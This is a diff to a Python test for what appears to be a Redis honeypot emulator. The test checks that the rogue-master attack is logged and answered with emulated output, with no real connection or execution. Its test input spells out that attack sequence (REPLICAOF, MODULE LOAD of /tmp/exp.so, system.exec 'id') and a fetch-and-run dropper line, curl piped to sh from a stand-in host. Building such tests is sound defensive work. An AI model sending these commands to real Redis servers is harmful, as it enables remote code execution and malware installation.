@@ -110,7 +110,10 @@ def redis_oversized_command_kept_as_payload(ctx):
 
 @case
 def redis_replicaof_logged_never_followed(ctx):
-    """SLAVEOF/REPLICAOF to an attacker's 'master' is logged and answered; no connection is made."""
+    """SLAVEOF/REPLICAOF to an attacker's 'master' is logged and answered; no connection is made.
+    The module it would have sent loads, and its system.exec answers with what the command prints
+    on the emulated machine (never run): the rogue-master attack goes on to its dropper, whose URL
+    is logged."""
     need("redis-cli")
     lport = free_port()
     ls = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
@@ -121,10 +124,13 @@ def redis_replicaof_logged_never_followed(ctx):
     ctx.defer(ls.close)
     d = ctx.daemon("redis-replicaof", [Service("redis", protocol="redis")]).start()
     port = d.svc("redis").port
-    out = cli(port, stdin=("REPLICAOF 127.0.0.1 %d\nINFO replication\nMODULE LOAD /tmp/exp.so\n" % lport).encode())
-    assert out.startswith("OK\n") and "role:slave" in out and "master_link_status:down" in out, out
-    assert "Error loading the extension" in out, out
-    d.wait_event(lambda e: e["eventid"] == "redis.module_load", what="redis.module_load")
+    out = cli(port, stdin=("MODULE LOAD /tmp/exp.so\nREPLICAOF 127.0.0.1 %d\nINFO replication\n"
+                           "MODULE LOAD /tmp/exp.so\nsystem.exec \"id; echo $((7*6))\"\n"
+                           "system.exec \"curl -s http://192.0.2.66/p2p.sh | sh\"\n" % lport).encode())
+    assert out.startswith("ERR Error loading the extension") and "role:slave" in out, out
+    assert "master_link_status:down" in out, out
+    assert "\nOK\nuid=" in out and "(redis)" in out and "\n42\n" in out, out
+    d.wait_event(lambda e: e["eventid"] == "redis.module_load", count=2, what="two redis.module_load")
     time.sleep(T(2))
     try:
         conn, _ = ls.accept()
@@ -135,7 +141,9 @@ def redis_replicaof_logged_never_followed(ctx):
     evs = stop_and_read(d)
     ro = by(evs, "redis.replicaof")
     assert len(ro) == 1 and ro[0]["host"] == "127.0.0.1" and ro[0]["port"] == lport, ro
-    assert by(evs, "redis.module_load")[0]["path"] == "/tmp/exp.so"
+    ml = by(evs, "redis.module_load")
+    assert [(e["path"], e["loaded"]) for e in ml] == [("/tmp/exp.so", False), ("/tmp/exp.so", True)], ml
+    assert "http://192.0.2.66/p2p.sh" in {e.get("url") for e in evs}, [e["eventid"] for e in evs]
 
 
 @case
